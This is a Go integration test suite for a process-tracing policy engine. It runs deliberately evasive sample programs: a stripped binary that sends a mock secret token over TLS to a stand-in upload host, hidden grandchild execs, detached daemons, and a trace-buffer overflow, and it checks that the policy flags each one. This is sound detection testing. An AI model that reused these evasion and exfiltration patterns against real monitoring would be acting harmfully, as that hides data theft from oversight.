package harness

import (
	"fmt"
	"net/netip"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"github.com/stretchr/testify/require"

	"github.com/tracep/tracep/backends"
	"github.com/tracep/tracep/backends/exectrace"
	"github.com/tracep/tracep/tracep"
)

// strippedGoClient builds a stripped, static Go program that POSTs body to
// url over TLS with Go's crypto/tls: no symbols, no DWARF.
func strippedGoClient(t *testing.T, url, body string) string {
	t.Helper()
	dir := t.TempDir()
	src := fmt.Sprintf(`package main

import (
	"net/http"
	"os"
	"strings"
)

func main() {
	resp, err := http.Post(%q, "text/plain", strings.NewReader(%q))
	if err != nil {
		os.Exit(1)
	}
	resp.Body.Close()
}
`, url, body)
	require.NoError(t, os.WriteFile(filepath.Join(dir, "main.go"), []byte(src), 0o644))
	require.NoError(t, os.WriteFile(filepath.Join(dir, "go.mod"), []byte("module client\n\ngo 1.22\n"), 0o644))
	bin := filepath.Join(dir, "client")
	build := exec.Command("go", "build", "-trimpath", "-ldflags=-s -w", "-o", bin, ".")
	build.Dir = dir
	build.Env = append(os.Environ(), "CGO_ENABLED=0", "GOFLAGS=")
	out, err := build.CombinedOutput()
	require.NoError(t, err, "%s", out)
	return bin
}

// The forbidden-behaviour suite: programs that do what their policy
// forbids, in ways meant to slip through. Every one is caught by the
// policy, or the verdict is "incomplete" — never a pass.
func TestIntegrationForbiddenBehaviour(t *testing.T) {
	n := newNet(t)
	policy, err := ParsePolicy(strings.NewReader(`
allow exec prog=sh
allow exec prog=true
allow exec prog=dig
allow exec prog=python3*
allow exec prog=client
allow exec prog=tail
allow dns name=example.test transport=udp
allow net proto=udp dst=127.0.0.1:53
allow net proto=tcp dst=192.0.2.10:443
allow net proto=tcp dst=[2001:db8::10]:443
deny tls text=*s3cr3t*
allow tls sni=*
require connect-from-dns
`))
	require.NoError(t, err)
	goClient := strippedGoClient(t, "https://example.test/upload", "token=s3cr3t-42")
	long := strings.Repeat("a", 30000)
	for _, tc := range []struct {
		name   string
		argv   []string
		opts   []Option
		caught bool // a violation, not only an incomplete verdict
	}{
		{name: "a hidden exec in a short-lived grandchild", caught: true,
			argv: []string{"sh", "-c", `(sh -c '/usr/bin/id >/dev/null' &); true`}, opts: []Option{WaitAll(0)}},
		{name: "a DNS lookup over TCP", caught: true,
			argv: []string{"dig", "+tcp", "+short", "example.test"}},
		{name: "a connect to a hard-coded address", caught: true,
			argv: []string{"python3", "-c", `import socket; socket.create_connection(("192.0.2.10", 443)).close()`}},
		{name: "a secret sent over TLS by a stripped Go binary", caught: true,
			argv: []string{goClient}},
		{name: "a daemon that acts after its parent exited, killed",
			argv: []string{"sh", "-c", `parent=$$; sh -c "tail --pid=$parent -s 0.01 -f /dev/null; /usr/bin/id" >/dev/null 2>&1 & exit 0`}},
		{name: "a daemon that acts after its parent exited, waited for", caught: true,
			argv: []string{"sh", "-c", `parent=$$; sh -c "tail --pid=$parent -s 0.01 -f /dev/null; /usr/bin/id" >/dev/null 2>&1 & exit 0`}, opts: []Option{WaitAll(0)}},
		{name: "a burst that overflows a deliberately tiny ring",
			argv: []string{"sh", "-c", `for i in $(seq 300); do /bin/true ` + long + `; done; /usr/bin/id`},
			opts: []Option{Kinds(tracep.KindExec), Tracers(backends.Config{Exec: exectrace.Config{RingBytes: 256 << 10, ArgvLimit: 32 << 10}})}},
	} {
		t.Run(tc.name, func(t *testing.T) {
			cmd := exec.Command(tc.argv[0], tc.argv[1:]...)
			c := Trace(t, cmd, append([]Option{InNet(n), AllowLost()}, tc.opts...)...)
			v := policy.Judge(c.Events)
			require.False(t, v.Clean(), "a pass for forbidden behaviour:\n%s", formatEvents(c.Events))
			if tc.caught {
				require.NotEmpty(t, v.Violations, "caught, not only unverifiable (%v):\n%s", v.Incomplete, formatEvents(c.Events))
			}
			t.Logf("%d violation(s), incomplete: %v", len(v.Violations), v.Incomplete)
		})
	}
}

// Every key a matcher accepts can both match and not match a real event:
// none is documented that never matches.
func TestIntegrationEveryKeyMatches(t *testing.T) {
	n := newNet(t)
	c := Trace(t, exec.Command("sh", "-c", "getent hosts example.test; curl -sS -o /dev/null https://example.test/; /nonexistent; exit 0"), InNet(n))
	seen := map[string]bool{}
	for _, ev := range c.Events {
		fields := Fields(ev)
		for key, typ := range keysOf(ev.Kind) {
			vals := fields[key]
			if len(vals) == 0 {
				continue // not set on this event
			}
			yes, no := vals[0], otherValue(typ, vals)
			m, err := ParseMatcherArgs([]string{string(ev.Kind), key + "=" + yes})
			require.NoError(t, err, "%s=%q", key, yes)
			require.True(t, m.Match(ev), "%s=%q on %s", key, yes, ev)
			m, err = ParseMatcherArgs([]string{string(ev.Kind), key + "=" + no})
			require.NoError(t, err, "%s=%q", key, no)
			require.False(t, m.Match(ev), "%s=%q on %s", key, no, ev)
			seen[string(ev.Kind)+" "+key] = true
		}
	}
	for _, want := range []string{"exec prog", "exec args", "exec argv", "exec errno", "net dst", "net src", "dns name",
		"dns answers.data", "dns server", "tls sni", "tls text", "exec pid", "dns answered", "exec comm"} {
		require.True(t, seen[want], "%s was not tried on a real event", want)
	}
}

// otherValue is a valid pattern of type typ that none of vals matches.
func otherValue(typ valueType, vals []string) string {
	switch typ {
	case boolValue:
		if slices.Contains(vals, "true") {
			return "false"
		}
		return "true"
	case numberValue:
		return "987654321987"
	case addrValue:
		return netip.MustParseAddrPort("[2001:db8:ffff::1]:1").String()
	case kindValue:
		if slices.Contains(vals, "ca") {
			return "exec"
		}
		return "ca"
	}
	return "no such value " + strings.Repeat("z", 3)
}
